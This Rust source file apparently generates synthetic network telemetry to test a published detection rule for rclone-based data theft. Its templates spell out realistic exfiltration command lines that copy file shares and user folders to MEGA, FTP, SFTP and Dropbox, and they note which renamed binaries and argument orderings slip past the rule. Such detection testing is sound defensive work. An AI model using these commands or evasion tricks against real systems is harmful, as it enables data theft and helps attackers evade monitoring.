//! Rclone sessions: data theft modelled on publicly reported ransomware
//! playbooks (rclone copying file shares or user folders to MEGA, FTP,
//! SFTP or S3-compatible storage with `--transfers`, `--ignore-existing`,
//! `--auto-confirm`, `--multi-thread-streams`), renamed copies of the
//! binary, rclone on macOS and Linux, and legitimate backup jobs.
//!
//! Each session is one process (one pid, parent and hash) opening a few
//! connections over minutes, reported at both stages, so the detection's
//! `stats` groups them. The templates are chosen to exercise every branch of
//! the published rule and each of its known weaknesses; `expect` says what
//! a faithful implementation should do with each.

use std::sync::Arc;

use crate::catalog::RunAs;
use crate::fleet::{Custom, Fleet};
use crate::flow::{Conn, Flow, Source};
use crate::model::{HostKind, Process};
use crate::net::{self, Dest, Proto};
use crate::rng::Rng;
use crate::traffic::{self, UNKNOWN_HOST};

const WIN_RCLONE: &str = "rclone/1.66.0/windows-amd64";

/// Where a session runs.
#[derive(Clone, Copy)]
enum Want {
    /// A Windows desktop or laptop of a department.
    Workstation(&'static str),
    Laptop,
    /// A Windows server whose name starts with the prefix.
    Server(&'static str),
    Mac,
    Linux,
}

/// An image outside the catalogue: the rclone binary under some name, or
/// the shell that launched it.
struct Image {
    name: &'static str,
    path: &'static str,
    binary: &'static str,
    args: &'static str,
    run_as: RunAs,
}

enum Parent {
    /// A long-lived catalogue process (Task Scheduler, a login shell).
    Running(&'static str),
    /// A dedicated shell started for the session.
    Fresh(Image),
}

/// One connection of a session.
struct Leg {
    after_s: u64,
    secs: u64,
    dest: &'static Dest,
    /// 0 picks an FTP passive-mode data port.
    port: u16,
    /// Upload volume; 0 for a small control connection.
    mib_out: u64,
    /// Recorded while off the trusted network and delivered late.
    cached: bool,
}

const fn leg(after_s: u64, secs: u64, dest: &'static Dest, port: u16, mib_out: u64) -> Leg {
    Leg {
        after_s,
        secs,
        dest,
        port,
        mib_out,
        cached: false,
    }
}

struct Template {
    label: &'static str,
    want: Want,
    image: Image,
    parent: Parent,
    /// Start, in thousandths of the time span.
    at_permille: u64,
    legs: &'static [Leg],
    expect: &'static str,
}

const fn fresh_shell(
    name: &'static str,
    path: &'static str,
    binary: &'static str,
    args: &'static str,
    run_as: RunAs,
) -> Parent {
    Parent::Fresh(Image {
        name,
        path,
        binary,
        args,
        run_as,
    })
}

const CMD_PATH: &str = r"C:\Windows\system32\cmd.exe";
const PS_PATH: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";

/// In priority order: small runs take the first few.
static TEMPLATES: [Template; 10] = [
    Template {
        label: "finance-unc",
        want: Want::Workstation("FIN"),
        image: Image {
            name: "rclone.exe",
            path: r"C:\ProgramData\rclone\rclone.exe",
            binary: WIN_RCLONE,
            args: r" copy \\FILESRV01\Finance remote:exfil/finance --transfers 16 --ignore-existing --auto-confirm --multi-thread-streams 12",
            run_as: RunAs::Elevated,
        },
        parent: fresh_shell("cmd.exe", CMD_PATH, "win/cmd.exe", r" /c C:\ProgramData\rclone\run.bat", RunAs::Elevated),
        at_permille: 320,
        legs: &[leg(0, 4, &net::WASABI, 443, 0), leg(18, 345, &net::WASABI, 443, 2600)],
        expect: "published rule: match (branch 1 process_name, and branch 2: ` copy `, UNC path, `remote:`); its records span two hours, so two hourly windows",
    },
    Template {
        label: "mega-docs",
        want: Want::Laptop,
        image: Image {
            name: "rclone.exe",
            path: r"C:\Users\{user}\Downloads\rclone-v1.66.0-windows-amd64\rclone.exe",
            binary: WIN_RCLONE,
            args: r#"copy "C:\Users\{user}\Documents" mega:backup -q --ignore-existing --auto-confirm --transfers 8"#,
            run_as: RunAs::User,
        },
        parent: fresh_shell("powershell.exe", PS_PATH, "win/powershell.exe", "", RunAs::User),
        at_permille: 120,
        legs: &[
            leg(0, 2, &net::MEGA_API, 443, 0),
            leg(12, 150, &net::MEGA_STORAGE_A, 443, 900),
            Leg {
                cached: true,
                ..leg(240, 130, &net::MEGA_STORAGE_A, 443, 700)
            },
        ],
        expect: "published rule: match by branch 1 only (parg has no leading space, so not ` copy `; no UNC path); its last connection was cached off-network and arrives hours late at the end of the output",
    },
    Template {
        label: "hr-ftp1-renamed",
        want: Want::Workstation("HR"),
        image: Image {
            name: "svchosts.exe",
            path: r"C:\Users\Public\svchosts.exe",
            binary: WIN_RCLONE,
            args: r#" copy "\\FILESRV02\HR$" FTP1:/upload/hr -q --ignore-existing --auto-confirm --multi-thread-streams 4 --transfers 4"#,
            run_as: RunAs::Elevated,
        },
        parent: fresh_shell("cmd.exe", CMD_PATH, "win/cmd.exe", "", RunAs::Elevated),
        at_permille: 470,
        legs: &[leg(0, 240, &net::DROP_FTP_A, 21, 0), leg(4, 220, &net::DROP_FTP_A, 0, 1200)],
        expect: "published rule: match by branch 2 only (renamed binary; ` copy `, UNC path, `FTP1:` matches `*ftp1:*` case-insensitively)",
    },
    Template {
        label: "legal-mega-renamed",
        want: Want::Workstation("LEG"),
        image: Image {
            name: "winupd.exe",
            path: r"C:\ProgramData\Microsoft\Windows\winupd.exe",
            binary: WIN_RCLONE,
            args: r" copy D:\Legal\Contracts mega:lg --transfers 12 --ignore-existing --auto-confirm --multi-thread-streams 8 -q",
            run_as: RunAs::Elevated,
        },
        parent: fresh_shell("cmd.exe", CMD_PATH, "win/cmd.exe", "", RunAs::Elevated),
        at_permille: 580,
        legs: &[leg(0, 2, &net::MEGA_API, 443, 0), leg(9, 260, &net::MEGA_STORAGE_B, 443, 1800)],
        expect: "published rule: MISSED (renamed binary, no UNC path, and `*--transfers` needs the flag last); a fixed `*--transfers*` makes branch 3 match",
    },
    Template {
        label: "mac-dropbox",
        want: Want::Mac,
        image: Image {
            name: "rclone",
            path: "/usr/local/bin/rclone",
            binary: "rclone/1.66.0/darwin-arm64",
            args: " copy /Users/{user}/Documents remote:stage --transfers 8 --ignore-existing --auto-confirm -q",
            run_as: RunAs::User,
        },
        parent: Parent::Running("zsh"),
        at_permille: 400,
        legs: &[
            leg(0, 2, &net::DROPBOX_API, 443, 0),
            leg(6, 190, &net::DROPBOX_CONTENT, 443, 700),
        ],
        expect: "published rule: MISSED (`rclone` has no .exe, no UNC path, `--transfers` not last); a fixed `*--transfers*` matches branch 3, but the stats BY clause still drops the records (no pil/ppil) unless grouping tolerates missing fields",
    },
    Template {
        label: "backup-s3-legit",
        want: Want::Server("BKP"),
        image: Image {
            name: "rclone.exe",
            path: r"C:\Program Files\rclone\rclone.exe",
            binary: WIN_RCLONE,
            args: r" sync D:\Backups s3-prod:examplecorp-backups --log-file C:\ProgramData\rclone\logs\backup.log --log-level INFO --transfers 4 --checkers 8",
            run_as: RunAs::System,
        },
        parent: Parent::Running("svchost-schedule"),
        at_permille: 50,
        legs: &[leg(0, 3, &net::S3_EU_WEST, 443, 0), leg(8, 420, &net::S3_BACKUPS, 443, 3000)],
        expect: "published rule: match by branch 1 (a false positive: the scheduled backup job; the filter macro is where a team would allow it)",
    },
    Template {
        label: "projects-ftp-no-space",
        want: Want::Workstation("ENG"),
        image: Image {
            name: "svchosts.exe",
            path: r"C:\Windows\Temp\svchosts.exe",
            binary: WIN_RCLONE,
            args: r"copy \\FILESRV03\Projects ftp:/drop/prj --transfers 10 -P",
            run_as: RunAs::Elevated,
        },
        parent: fresh_shell("cmd.exe", CMD_PATH, "win/cmd.exe", "", RunAs::Elevated),
        at_permille: 690,
        legs: &[leg(0, 180, &net::DROP_FTP_B, 21, 0), leg(3, 170, &net::DROP_FTP_B, 0, 900)],
        expect: "published rule: MISSED (renamed binary; parg starts with `copy` without a space, so not ` copy `); a fixed rule that also accepts `copy ` at the start matches branch 2",
    },
    Template {
        label: "eng-sftp-renamed",
        want: Want::Workstation("ENG"),
        image: Image {
            name: "winupd.exe",
            path: r"C:\Users\Public\Libraries\winupd.exe",
            binary: WIN_RCLONE,
            args: r" copy \\NAS01\Engineering sftp:/srv/stage --transfers 6 --ignore-existing",
            run_as: RunAs::Elevated,
        },
        parent: fresh_shell("powershell.exe", PS_PATH, "win/powershell.exe", " -NoProfile", RunAs::Elevated),
        at_permille: 800,
        legs: &[leg(0, 280, &net::DROP_SFTP, 22, 1400), leg(40, 6, &net::DROP_SFTP, 22, 0)],
        expect: "published rule: match by branch 2 only, and only because `*ftp:*` also matches `sftp:`",
    },
    Template {
        label: "linux-mega",
        want: Want::Linux,
        image: Image {
            name: "rclone",
            path: "/usr/bin/rclone",
            binary: "rclone/1.66.0/linux-amd64",
            args: "copy /srv/exports mega:srv --transfers 16 --ignore-existing --auto-confirm",
            run_as: RunAs::User,
        },
        parent: Parent::Running("bash"),
        at_permille: 860,
        legs: &[leg(0, 2, &net::MEGA_API, 443, 0), leg(10, 230, &net::MEGA_STORAGE_A, 443, 1100)],
        expect: "published rule: MISSED (no .exe, no UNC path, `--transfers` not last); a fixed `*--transfers*` matches branch 3, and the records lack pil/ppil as on macOS",
    },
    Template {
        label: "bare-transfers",
        want: Want::Workstation("SAL"),
        image: Image {
            name: "winupd.exe",
            path: r"C:\Users\{user}\AppData\Local\Temp\winupd.exe",
            binary: WIN_RCLONE,
            args: r" copy C:\Users\{user}\Desktop mega:drop --ignore-existing --auto-confirm --transfers",
            run_as: RunAs::User,
        },
        parent: fresh_shell("cmd.exe", CMD_PATH, "win/cmd.exe", "", RunAs::User),
        at_permille: 740,
        legs: &[leg(0, 2, &net::MEGA_API, 443, 0), leg(7, 120, &net::MEGA_STORAGE_B, 443, 400)],
        expect: "published rule: match by branch 3 only: the arguments end in a bare `--transfers` (real rclone would reject that; it is here so the branch fires at all)",
    },
];

/// A planned session: who, where, when, and its flows.
pub struct Session {
    pub label: String,
    pub host: usize,
    pub process: Arc<Process>,
    pub start_ms: u64,
    /// Flows delivered in time.
    pub flows: Vec<Flow>,
    /// Flows cached off-network, for the late section.
    pub cached: Vec<Flow>,
    pub expect: &'static str,
}

/// How many sessions a run of `count` records gets by default: all the
/// templates in the bundled data set, fewer in small runs so that rclone
/// stays rare.
pub fn default_sessions(count: u64) -> usize {
    ((count / 500) as usize).min(TEMPLATES.len())
}

/// Plans `wanted` sessions over the time span. Templates beyond the first
/// round get random times. Sessions whose kind of host does not exist in
/// the fleet are skipped.
pub fn plan(
    rng: &mut Rng,
    fleet: &mut Fleet,
    start_ms: u64,
    duration_ms: u64,
    wanted: usize,
) -> Vec<Session> {
    let mut used = Vec::new();
    let mut sessions = Vec::new();
    for n in 0..wanted {
        let template = &TEMPLATES[n % TEMPLATES.len()];
        let Some(host) = choose_host(rng, fleet, template.want, &used) else {
            continue;
        };
        used.push(host);
        let permille = if n < TEMPLATES.len() {
            template.at_permille
        } else {
            rng.range(30, 950)
        };
        let at = start_ms + duration_ms * permille / 1000 + rng.below(20_000);
        let label = match n / TEMPLATES.len() {
            0 => template.label.to_owned(),
            round => format!("{}-{}", template.label, round + 1),
        };
        let index = sessions.len() as u16;
        sessions.push(build(rng, fleet, template, label, host, at, index));
    }
    sessions
}

fn build(
    rng: &mut Rng,
    fleet: &mut Fleet,
    template: &Template,
    label: String,
    host: usize,
    start_ms: u64,
    index: u16,
) -> Session {
    let parent = match &template.parent {
        Parent::Running(key) => fleet.instance(rng, host, key),
        Parent::Fresh(image) => fleet.custom_process(rng, host, custom(image, None)),
    };
    let process = fleet.custom_process(rng, host, custom(&template.image, Some(parent)));
    let (mut flows, mut cached) = (Vec::new(), Vec::new());
    for leg in template.legs {
        let flow = leg_flow(rng, fleet, host, &process, leg, start_ms, index);
        if leg.cached {
            cached.push(flow);
        } else {
            flows.push(flow);
        }
    }
    Session {
        label,
        host,
        process,
        start_ms,
        flows,
        cached,
        expect: template.expect,
    }
}

fn custom(image: &Image, parent: Option<Arc<Process>>) -> Custom {
    Custom {
        name: image.name,
        path: image.path,
        binary: image.binary,
        args: image.args,
        run_as: image.run_as,
        parent,
    }
}

fn leg_flow(
    rng: &mut Rng,
    fleet: &Fleet,
    host: usize,
    process: &Arc<Process>,
    leg: &Leg,
    session_start_ms: u64,
    session: u16,
) -> Flow {
    let h = &fleet.hosts[host];
    let port = match leg.port {
        0 => rng.range(50_000, 50_500) as u16,
        p => p,
    };
    let conn = Conn {
        host,
        process: process.clone(),
        proto: Proto::Tcp,
        source: if leg.cached {
            Source::Home
        } else {
            Source::Office
        },
        sport: traffic::ephemeral_port(rng, h.os()),
        dest: leg.dest.v4[0],
        dport: port,
        dest_name: if leg.dest.name.is_empty() {
            UNKNOWN_HOST
        } else {
            leg.dest.name
        },
        http: None,
        session: Some(session),
    };
    let (bytes_in, bytes_out) = leg_bytes(rng, leg.mib_out);
    Flow {
        conn: Arc::new(conn),
        start_ms: session_start_ms + leg.after_s * 1000 + rng.below(1000),
        duration_ms: leg.secs * 1000 + rng.below(1000),
        bytes_in,
        bytes_out,
        // Sessions always report both stages so the rule sees both.
        report_start: true,
        report_periodic: true,
    }
}

/// Uploads send far more than they receive; control connections are small.
fn leg_bytes(rng: &mut Rng, mib_out: u64) -> (u64, u64) {
    if mib_out == 0 {
        return (rng.spread(3_000, 40_000), rng.spread(1_500, 20_000));
    }
    let out = mib_out * 1_048_576 / 100 * rng.range(90, 110);
    (out / rng.range(40, 80), out)
}

fn choose_host(rng: &mut Rng, fleet: &Fleet, want: Want, used: &[usize]) -> Option<usize> {
    let free = |i: &usize| !used.contains(i) && !fleet.hosts[*i].legacy;
    let matching = |pred: &dyn Fn(usize) -> bool| -> Vec<usize> {
        (0..fleet.hosts.len())
            .filter(free)
            .filter(|&i| pred(i))
            .collect()
    };
    let kind = |i: usize| fleet.hosts[i].kind;
    let workstation = |i: usize| matches!(kind(i), HostKind::Desktop | HostKind::Laptop);
    let tiers: Vec<Vec<usize>> = match want {
        Want::Workstation(dept) => vec![
            matching(&|i| workstation(i) && fleet.hosts[i].dept == dept),
            matching(&workstation),
        ],
        Want::Laptop => vec![
            matching(&|i| kind(i) == HostKind::Laptop),
            matching(&workstation),
        ],
        Want::Server(prefix) => vec![
            matching(&|i| kind(i) == HostKind::Server && fleet.hosts[i].name.starts_with(prefix)),
            matching(&|i| kind(i) == HostKind::Server),
            matching(&workstation),
        ],
        Want::Mac => vec![matching(&|i| kind(i) == HostKind::Mac)],
        Want::Linux => vec![matching(&|i| kind(i) == HostKind::Linux)],
    };
    let candidates = tiers.into_iter().find(|t| !t.is_empty())?;
    Some(*rng.pick(&candidates))
}
